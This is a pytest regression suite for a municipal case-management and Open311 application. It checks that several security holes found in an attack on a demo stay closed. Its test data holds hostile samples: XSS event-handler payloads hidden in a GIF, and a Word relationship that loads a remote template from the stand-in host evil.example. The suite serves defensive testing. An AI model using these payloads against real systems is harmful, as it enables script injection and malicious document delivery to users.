"""Holes an attack on the demo found after the first hardening, each closed as a class and kept closed:
moments beyond the calendar, context rows leaking through the export, working notes shown to citizens,
numbers and log lines, import reports that grow with the file, cells without a declared dimension,
existence told by the Open311 token lookup, markup in photos, remote templates in Word files."""

import io
import logging
import re
import uuid
import zipfile

import pytest
from sqlalchemy import select

from govgrid.db.ledger_models import LedgerItem
from tests import samples
from tests.factories import STREET_A


@pytest.mark.parametrize(
    "until", ["9999-12-31T23:59:59+00:00", "2027-01-01T00:00:00", "0001-01-01T00:00:00+14:00"]
)
def test_a_moment_beyond_the_calendar_or_without_a_zone_is_refused_where_it_enters(
    as_user, connector_client, district, until
):
    point = district.grid(STREET_A).geometry.representative_point()
    receipt = (
        connector_client()
        .post(
            "/api/v1/connectors/hotline12345/events",
            json={
                "order_no": uuid.uuid4().hex,
                "title": "违建",
                "category": "城乡建设/城乡规划/违章建筑",
                "location": {"lng": point.x, "lat": point.y},
            },
        )
        .json()
    )
    as_user("dispatcher").post(
        f"/api/v1/cases/{receipt['case_id']}/steps", json={"step": "dispatch", "unit_code": STREET_A}
    )
    officer = as_user("street_officer")
    officer.post(f"/api/v1/cases/{receipt['case_id']}/steps", json={"step": "sign"})
    answer = officer.post(
        f"/api/v1/cases/{receipt['case_id']}/extension", json={"until": until, "reason": "x"}
    )
    assert answer.status_code == 422 and answer.json()["error"]["field"] == "until"


def test_a_ledger_deadline_or_milestone_beyond_the_calendar_is_refused(as_user, demo_ledger, session):
    client = as_user("supervisor")
    parent = session.scalars(select(LedgerItem).where(LedgerItem.kind == "measure")).first()
    for deadline in ("9999-12-31T23:59:59+00:00", "2027-06-30T00:00:00"):
        answer = client.post(
            "/api/v1/ledger/items",
            json={"kind": "task", "content": "x", "parent_id": parent.id, "deadline_at": deadline},
        )
        assert answer.status_code == 422 and answer.json()["error"]["field"] == "deadline_at"
    task = session.scalars(select(LedgerItem).where(LedgerItem.kind == "task")).first()
    answer = client.post(
        f"/api/v1/ledger/items/{task.id}/milestones", json={"label": "x", "due_at": "2027-01-01T00:00:00"}
    )
    assert answer.status_code == 422


@pytest.mark.parametrize(
    "query", ["end_date=0001-01-02T00:00:00%2B00:00", "start_date=9999-12-31T23:59:59-23:59"]
)
def test_open311_dates_beyond_the_calendar_are_a_400(anonymous, query):
    for path in ("/open311/v2/requests.json", "/open311/v2/servicerequestupdates.json"):
        assert anonymous.get(f"{path}?{query}").status_code == 400


@pytest.mark.parametrize(
    "query", ["amount=nan", "amount=inf", "amount=1e20", "amount=20&start=9999-12-31T23:00"]
)
def test_the_calendar_page_refuses_absurd_limits_and_moments(as_user, query):
    start = "" if "start=" in query else "start=2026-12-01T09:00&"
    assert as_user("grid_worker").get(f"/calendar?{start}{query}&unit=工作日").status_code == 422


def test_page_forms_refuse_ids_and_versions_beyond_any(as_user, district):
    client = as_user("dispatcher")
    page = client.get("/report").text
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    point = district.grid(STREET_A).geometry.representative_point()
    case = client.post(
        "/api/v1/cases", json={"class_code": "E0102", "title": "x", "lng": point.x, "lat": point.y}
    ).json()
    merged = client.post(f"/cases/{case['id']}/merge", data={"csrf_token": csrf, "into": str(10**30)})
    extended = client.post(
        f"/cases/{case['id']}/extension",
        data={"csrf_token": csrf, "until": "2027-01-01", "version": str(10**30)},
    )
    assert merged.status_code == 422 and extended.status_code == 422


def test_a_unit_officers_export_carries_no_reports_of_rows_shown_only_as_context(
    as_user, demo_ledger, session
):
    from openpyxl import load_workbook
    from sqlalchemy import func

    from govgrid.db.ledger_models import ProgressReport
    from govgrid.db.models import OrgUnit
    from govgrid.excel import ledger_sheet as ls

    mine = session.scalar(select(OrgUnit.id).where(OrgUnit.code == "LX-CGJ"))
    other = session.scalars(
        select(LedgerItem).where(
            LedgerItem.kind == "project", LedgerItem.lead_unit_id != mine, LedgerItem.status == "open"
        )
    ).first()
    reported = session.scalar(
        select(func.count()).select_from(ProgressReport).where(ProgressReport.item_id == other.id)
    )
    assert reported > 0
    child = as_user("supervisor").post(
        "/api/v1/ledger/items",
        json={"kind": "task", "content": "配合推进", "parent_id": other.id, "lead_unit_code": "LX-CGJ"},
    )
    assert child.status_code == 201, child.text
    officer = as_user("dept_officer")
    assert (
        officer.get(f"/api/v1/ledger/items/{other.id}").json()["reports"] == []
    )  # context only, on the page
    book = load_workbook(io.BytesIO(officer.get("/api/v1/ledger/export").content))
    paths = (
        [row[0] for row in book[ls.REPORTS.name].iter_rows(min_row=3, values_only=True)]
        if ls.REPORTS.name in book.sheetnames
        else []
    )
    assert not any(str(p).endswith(other.number) for p in paths if p)


def test_a_citizen_reads_only_published_notes_even_on_their_own_case(as_user, district):
    point = district.grid(STREET_A).geometry.representative_point()
    citizen = as_user("citizen")
    case = citizen.post(
        "/api/v1/cases", json={"class_code": "E0102", "title": "楼下垃圾", "lng": point.x, "lat": point.y}
    ).json()
    as_user("dispatcher").post(
        f"/api/v1/cases/{case['id']}/steps",
        json={"step": "verify", "note": "内部：来电人张三 13800138000 勿回电", "public_note": "已核实"},
    )
    timeline = citizen.get(f"/api/v1/cases/{case['id']}/timeline").json()
    page = citizen.get(f"/cases/{case['id']}").text
    assert (
        "13800138000" not in str(timeline) and "13800138000" not in page and "dispatcher" not in str(timeline)
    )
    assert timeline[-1]["note"] == "已核实" and timeline[-1]["actor_name"] == "工作人员"
    assert "13800138000" not in citizen.get("/api/v1/reminders").text
    staff = as_user("dispatcher").get(f"/api/v1/cases/{case['id']}/timeline").json()
    assert "13800138000" in staff[-1]["note"]  # staff still read the working note


def test_a_percent_encoded_secret_in_a_url_is_masked_in_the_log():
    from govgrid.web.logs import RedactSecrets

    for path in ("/open311/v2/requests.json?api%5Fkey=ggt_SECRET", "/follow?code=1&secre%74=ABCDSECRET"):
        record = logging.LogRecord(
            "uvicorn.access", logging.INFO, "", 0, '%s - "%s %s"', ("a", "GET", path), None
        )
        RedactSecrets().filter(record)
        assert "SECRET" not in record.getMessage(), record.getMessage()


def test_an_import_with_thousands_of_bad_rows_reports_the_first_ones_and_the_total(as_user):
    lines = ["序号,上级序号,层级,工作内容,牵头单位,完成时限"] + [
        f"{n},,任务,x,无此单位,2026-12-31" for n in range(5000)
    ]
    answer = as_user("supervisor").post(
        "/api/v1/ledger/import", files={"file": ("坏.csv", "\n".join(lines).encode())}
    )
    body = answer.json()["error"]
    assert answer.status_code == 422 and body["total"] >= 5000 and len(body["rows"]) == 500
    assert len(answer.content) < 200_000


def test_a_sheet_without_a_declared_dimension_is_still_counted_cell_by_cell(monkeypatch):
    from govgrid.domain.errors import InvalidInput
    from govgrid.uploads import sheets
    from govgrid.uploads.limits import SheetLimits

    data = samples.rewritten(
        samples.many_rows(3000),
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]+"\s*/>', b"", xml),
    )
    monkeypatch.setattr(sheets, "load_workbook", lambda *a, **k: pytest.fail("loaded before it was refused"))
    with pytest.raises(InvalidInput, match="个单元格"):
        sheets.read_xlsx(data, SheetLimits(max_cells=2000))


def test_the_open311_token_lookup_does_not_tell_a_hidden_case_from_a_missing_one(
    connector_client, district, anonymous
):
    point = district.grid(STREET_A).geometry.representative_point()
    police = (
        connector_client("police_screening")
        .post(
            "/api/v1/connectors/police_screening/events",
            json={"check_id": uuid.uuid4().hex, "note": "协查", "lng": point.x, "lat": point.y},
        )
        .json()
    )
    assert anonymous.get(f"/open311/v2/tokens/{police['case_id']}.json").status_code == 404


def test_a_photo_carrying_an_event_handler_in_any_tag_is_refused():
    from govgrid.domain.errors import InvalidInput
    from govgrid.services import blobs

    for tail in (b"<details open ontoggle=alert(1)>", b'<img src=x onfocus="alert(1)">'):
        with pytest.raises(InvalidInput, match="网页或脚本"):
            blobs.photo("x.gif", samples.GIF[:-1] + b"!\xfe\x40" + tail + b"\x00;", blobs.FileLimits())


def test_a_word_file_that_loads_a_remote_template_is_refused_and_a_hyperlink_is_not():
    from govgrid.domain.errors import InvalidInput
    from govgrid.services import blobs

    def with_rels(rels: bytes) -> bytes:
        source = zipfile.ZipFile(io.BytesIO(samples.docx()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for name in source.namelist():
                target.writestr(name, source.read(name))
            target.writestr("word/_rels/settings.xml.rels", rels)
        return out.getvalue()

    template = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://evil.example/m.dotm" TargetMode="External"/></Relationships>'
    )
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(InvalidInput, match="外部"):
        blobs.evidence("汇报.docx", with_rels(template), blobs.FileLimits())
    assert blobs.evidence("汇报.docx", with_rels(link), blobs.FileLimits())


@pytest.mark.parametrize(
    "path", ["/login", "/api/v1/health", "/api/v1/cases/1", "/nowhere", "/static/css/app.css"]
)
def test_every_kind_of_response_carries_the_security_headers(anonymous, path):
    headers = anonymous.get(path).headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "script-src 'self'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
